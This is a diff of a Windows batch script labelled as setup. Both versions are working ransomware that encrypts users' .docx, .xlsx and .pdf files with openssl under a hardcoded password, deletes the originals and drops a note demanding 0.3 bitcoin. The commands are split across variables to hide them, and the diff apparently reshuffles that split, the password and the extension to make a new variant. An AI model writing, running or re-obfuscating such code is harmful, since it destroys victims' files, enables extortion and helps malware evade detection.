@@ -1,22 +1,23 @@
-REM setup 0485 v2
+REM setup 0715 v2
 @echo off
 @echo off
 setlocal EnableDelayedExpansion
-set "vhg0=for /r C:\Users %%f in (*.doc"
-set "pay1=x *.xlsx *.pdf) do ("
-!vhg0!!pay1!
+set zae0=for /r C:\Users %%f in (*.
+set lqt1=d
+set fxi2=ocx *.xlsx 
+set zjh3=*.pdf) do (
+!zae0!!lqt1!!fxi2!!zjh3!
 @echo off
 setlocal EnableDelayedExpansion
-set "ejb0=  openssl enc -ae"
-set "fzi1=s-256-cbc -pass pass:P@s"
-set "cav2=sw0rd!2024 -in "%%f" -out "%%f.pa"
-set "eho3=y" &"
-set "hms4=& del "%%f""
-!ejb0!!fzi1!!cav2!!eho3!!hms4!
+set bpc0=  openssl
+set okc1= enc -a
+set tvr2=e
+set myy3=s-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" ^&^& del "%%f"
+!bpc0!!okc1!!tvr2!!myy3!
 )
 @echo off
 setlocal EnableDelayedExpansion
-set "kvj0=echo Your files have been encrypted. Send 0.3 bitc"
-set "nhc1=oin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES"
-set "drt2=.txt"
-!kvj0!!nhc1!!drt2!
+set lly0=echo Your files have been encrypted. Send 0.3 bitcoin to recover the key ^> C:\Users\Public\Deskt
+set ujb1=op\README_RESTORE_FILES.t
+set jfw2=xt
+!lly0!!ujb1!!jfw2!
